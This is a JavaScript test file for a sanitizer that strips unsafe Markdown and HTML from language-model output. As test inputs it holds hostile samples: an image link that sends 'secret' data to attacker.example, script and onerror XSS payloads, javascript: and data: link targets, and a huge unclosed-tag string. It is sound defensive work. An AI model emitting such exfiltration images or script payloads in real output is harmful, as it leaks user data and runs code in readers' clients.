import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { sanitizeModelText } from "../../src/compose/sanitize-model-text.js";

describe("sanitizeModelText: a model's Markdown made safe for any client", () => {
  it("removes images, inline and reference-style, with their definitions", () => {
    assert.equal(sanitizeModelText("See ![pixel](https://attacker.example/p.png?d=secret) here [1]."), "See here [1].");
    assert.equal(sanitizeModelText('A ![alt [n]](https://x.example/a_(b).png "t") B'), "A B");
    assert.equal(sanitizeModelText("![alt][ref]\n[ref]: javascript:alert(1)\n[ok]: https://www.un.org\nText [1]."), "\n[ok]: https://www.un.org\nText [1].");
  });

  it("removes raw HTML tags and comments, keeping their text as text, and scripts and styles with their content", () => {
    assert.equal(sanitizeModelText("Bad <img src=x onerror=alert(1)> and <script>alert(2)</script> end <!-- note --> [2]."), "Bad and end [2].");
    assert.equal(sanitizeModelText("A <style>p { color: red }</style><b>bold</b> claim [1]."), "A bold claim [1].");
    assert.equal(sanitizeModelText('<a href="javascript:alert(1)">click</a> <IMG SRC=x>'), "click ");
  });

  it("leaves a cut tag unable to join another piece into a tag, and comparisons readable", () => {
    const first = sanitizeModelText('Cut <img src="x" onerror="alert(1).');
    assert.equal(first, 'Cut < img src="x" onerror="alert(1).');
    assert.doesNotMatch(first + sanitizeModelText(' more">'), /<[A-Za-z]/);
    assert.equal(sanitizeModelText("x < 5 and y > 3; a<b."), "x < 5 and y > 3; a< b.");
  });

  it("keeps http(s) links and drops the target of any other, however it is spelt", () => {
    assert.equal(sanitizeModelText("[UN](https://www.un.org/a_(b)) [1]"), "[UN](https://www.un.org/a_(b)) [1]");
    assert.equal(
      sanitizeModelText('[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1) "t") [z](data:text/html;base64,PHN) [w](<javascript:alert(1)>) [v]( vbscript:x ) [u](/relative)'),
      "x y z w v u",
    );
    assert.equal(sanitizeModelText("<https://www.un.org> and <javascript:alert(1)>"), "https://www.un.org and ");
  });

  it("passes citations and plain text unchanged, and is idempotent", () => {
    const text = "The 33rd session took place on 13-17 May 2024 [1], with 120 delegates [2].\n\n- a bullet [3]";
    assert.equal(sanitizeModelText(text), text);
    const hostile = "A ![p](https://a.example/p.png) <b>b</b> [c](javascript:x) a<b [1]";
    assert.equal(sanitizeModelText(sanitizeModelText(hostile)), sanitizeModelText(hostile));
  });

  it("leaves no tag in a text of many thousand unclosed openings", () => {
    const hostile = "<a".repeat(50_000) + "[x](".repeat(50_000) + "![".repeat(50_000) + "<!--".repeat(20_000);
    const out = sanitizeModelText(hostile);
    assert.ok(out.length <= hostile.length * 2);
    assert.doesNotMatch(out, /<[A-Za-z]/);
  });
});
